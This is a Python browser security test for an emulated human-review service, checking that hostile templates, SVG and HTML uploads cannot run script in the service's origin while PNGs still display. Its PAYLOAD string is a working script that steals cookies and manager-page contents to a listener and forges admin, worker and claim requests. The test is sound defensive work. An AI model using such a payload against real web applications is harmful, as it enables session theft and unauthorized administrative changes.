"""A hostile template, SVG or HTML file opened by a signed-in manager runs no script in the
service's origin (issue 10 item 6), while a legitimate PNG still shows inline.

The hostile script tries to read ``/_a2i/portal/manage``, POST to the admin, workforce and worker
routes, and send whatever it got to a listener on another loopback port. A control page served by
that listener runs the same script first, proving the channel works when script does run.
"""

from __future__ import annotations

import io
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from PIL import Image

from a2i_kit.service.objects import mirror_signer, put_object

pytestmark = pytest.mark.browser
SECRET_LOOP = "secret-loop-7731"

PAYLOAD = """
(async () => {
  const SERVICE = %(service)s, EXFIL = %(exfil)s, TAG = %(tag)s;
  const report = (kind, data) => {
    const text = String(data).slice(0, 20000);
    fetch(EXFIL + "/" + TAG + "/" + kind, {method: "POST", mode: "no-cors", body: text}).catch(() => {});
    new Image().src = EXFIL + "/" + TAG + "/img-" + kind + "?d=" + encodeURIComponent(text.slice(0, 1500));
  };
  report("ran", location.href + " origin=" + self.origin + " cookie=" + document.cookie);
  for (const url of [SERVICE + "/_a2i/portal/manage", "/_a2i/portal/manage"]) {
    try {
      const r = await fetch(url, {credentials: "include"});
      report("manage", r.status + " " + await r.text());
    } catch (e) { report("manage-error", e); }
  }
  const posts = [["/_a2i/admin/reset", "{}"], ["/_a2i/admin/clock", '{"seconds": 99999}'],
                 ["/_a2i/workforce/workers", '{"name": "mallory", "groups": ["reviewers"]}'],
                 ["/_a2i/worker/tasks/" + %(loop)s + "/claim", "{}"],
                 ["/_a2i/portal/tasks/" + %(loop)s + "/claim", ""],
                 ["/_a2i/portal/manage/signout", ""]];
  for (const [path, body] of posts) {
    try {
      const r = await fetch(SERVICE + path, {method: "POST", credentials: "include", body,
                                             headers: {"Content-Type": "application/json"}});
      report("post", path + " " + r.status + " " + await r.text());
    } catch (e) { report("post-error", path + " " + e); }
  }
  report("done", TAG);
})();
"""


class Listener:
    """A loopback HTTP server on its own port that records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[dict[str, str]] = []
        self.pages: dict[str, bytes] = {}
        self.event = threading.Condition()
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self, body: bytes = b"ok", media: str = "text/plain") -> None:
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Content-Type", media)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
                with listener.event:
                    listener.hits.append({"method": self.command, "path": self.path, "body": body})
                    listener.event.notify_all()

            def do_GET(self) -> None:
                if self.path in listener.pages:
                    self._answer(listener.pages[self.path], "text/html")
                    return
                self._record()
                self._answer()

            def do_POST(self) -> None:
                self._record()
                self._answer()

            def do_OPTIONS(self) -> None:
                self._answer(b"")

            def log_message(self, *_args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def wait_for(self, fragment: str, timeout: float = 20.0) -> None:
        with self.event:
            found = self.event.wait_for(lambda: any(fragment in h["path"] for h in self.hits), timeout)
        if not found:
            raise AssertionError(f"the listener never got {fragment!r}: {self.hits}")

    def tagged(self, tag: str) -> list[dict[str, str]]:
        return [h for h in self.hits if h["path"].startswith(f"/{tag}/")]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


def payload(service_url: str, exfil: str, tag: str) -> str:
    return PAYLOAD % {"service": json.dumps(service_url), "exfil": json.dumps(exfil),
                      "tag": json.dumps(tag), "loop": json.dumps(SECRET_LOOP)}


def snapshot(service: Any) -> dict[str, Any]:
    """What a successful attack would change: loops, claims, workers, task UIs, clock, faults."""
    store = service.context.store
    admin = {"X-A2I-Admin-Token": service.admin_token}
    return {
        "loops": sorted((loop["name"], loop["status"]) for loop in store.loops.all()),
        "assignments": len(store.claims.all()),
        "workers": httpx.get(f"{service.url}/_a2i/workforce/workers", headers=admin).json(),
        "task_uis": sorted(ui["name"] for ui in store.task_uis.all()),
        "clock": service.context.clock.offset,
        "faults": httpx.get(f"{service.url}/_a2i/admin/faults", headers=admin).json(),
    }


def png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 90, 40)).save(out, format="PNG")
    return out.getvalue()


def sign_in_manager(page: Any, service: Any) -> str:
    """Sign in through the manager form (whatever cookie or session it sets); the page's text."""
    page.goto(f"{service.url}/_a2i/portal/manage")
    form = page.locator('form[action$="/manage/signin"]')
    form.locator('input[name="token"]').fill(service.admin_token)
    form.locator('button[type="submit"]').click()
    page.get_by_role("heading", name="Review progress").wait_for()
    text = page.locator("body").inner_text()
    assert SECRET_LOOP in text  # what the hostile page must not read
    return text


def open_download(page: Any, url: str) -> Any:
    """Navigate to ``url`` expecting the browser to download it instead of showing it."""
    from playwright.sync_api import Error

    aborted = ""
    with page.expect_download() as info:
        try:
            page.goto(url)
        except Error as exc:  # Chromium aborts the navigation that became a download
            aborted = str(exc)
    assert aborted == "" or "Download is starting" in aborted or "ERR_ABORTED" in aborted, aborted
    return info.value


def test_hostile_template_svg_and_html_cannot_read_the_manager_view(
        service: Any, browser: Any, sagemaker_client: Any, make_flow: Any, start_loop: Any,
        listener: Listener) -> None:
    start_loop(make_flow(), {"text": "private review"}, name=SECRET_LOOP)
    script = {tag: payload(service.url, listener.url, tag) for tag in ("template", "svg", "html")}
    template = (f"<script>{script['template']}</script><form method='post' "
                f"action='{service.url}/_a2i/portal/tasks/{SECRET_LOOP}/claim'></form>"
                "<script>document.forms[0].submit()</script><crowd-form></crowd-form>")
    sagemaker_client.create_human_task_ui(HumanTaskUiName="hostile-ui", UiTemplate={"Content": template})
    template_url = sagemaker_client.describe_human_task_ui(HumanTaskUiName="hostile-ui")["UiTemplate"]["Url"]
    admin = {"X-A2I-Admin-Token": service.admin_token}
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>{script["svg"]}'
           "</script></svg>")
    html = f"<!doctype html><html><body><script>{script['html']}</script></body></html>"
    for key, body in (("evil.svg", svg), ("evil.html", html)):
        assert httpx.put(f"{service.url}/_a2i/objects/uploads/{key}", content=body, headers=admin).status_code == 200
    sign = mirror_signer(service.context)
    # The control: the same script on the listener's own page (it targets the listener, not the
    # service) reports every step, so silence from the hostile files is not a broken payload.
    listener.pages["/control.html"] = (f"<script>{payload(listener.url, listener.url, 'control')}"
                                       "</script>").encode()

    context = browser.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        sign_in_manager(page, service)
        before = snapshot(service)

        shown = context.new_page()
        response = shown.goto(template_url)
        assert response.status == 200
        assert response.headers["content-type"] == "text/plain; charset=utf-8"
        assert "sandbox" in response.headers["content-security-policy"]
        assert "document.forms[0].submit()" in shown.locator("body").inner_text()  # shown as source text

        for name in ("evil.svg", "evil.html"):
            download = open_download(context.new_page(), sign("uploads", name))
            assert download.suggested_filename == name

        control = context.new_page()
        control.goto(f"{listener.url}/control.html")
        listener.wait_for("/control/done")
        assert {h["path"].split("?")[0] for h in listener.tagged("control")} >= {
            "/control/ran", "/control/manage", "/control/post", "/control/done"}

        assert [h for tag in ("template", "svg", "html") for h in listener.tagged(tag)] == []
        # Everything else the listener got is the control's (its reports and its 8 requests to
        # the listener standing in for the service): nothing from the hostile files.
        others = [h for h in listener.hits
                  if not h["path"].startswith("/control/") and h["path"] != "/favicon.ico"]
        assert len(others) == 8, others
        assert all(h["path"].startswith("/_a2i/") for h in others), others
        for hit in listener.hits:
            assert service.admin_token not in hit["path"] + hit["body"]
        assert snapshot(service) == before
        page.goto(f"{service.url}/_a2i/portal/manage")  # the manager is still signed in
        page.get_by_role("heading", name="Review progress").wait_for()
    finally:
        context.close()


def test_a_png_still_shows_inline_in_the_task_and_by_link(
        service: Any, browser: Any, make_flow: Any, make_worker: Any, start_loop: Any, portal: Any) -> None:
    put_object(service.context, "photos", "ok.png", png(40, 30))
    template = ('<script src="https://assets.crowd.aws/crowd-html-elements.js"></script><crowd-form>'
                '<img id="pic" src="{{ task.input.image | grant_read_access }}"></crowd-form>')
    loop = start_loop(make_flow(template=template), {"image": "s3://photos/ok.png"})
    portal.sign_in(make_worker("alice"))
    frame = portal.open_task(loop)
    image = frame.locator("img#pic")
    assert image.evaluate("img => img.decode().then(() => img.naturalWidth)") == 40

    context = browser.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        response = page.goto(mirror_signer(service.context)("photos", "ok.png"))
        assert response.status == 200
        assert response.headers["content-type"] == "image/png"
        assert "content-disposition" not in response.headers
        assert page.evaluate("document.images[0].naturalWidth") == 40
    finally:
        context.close()
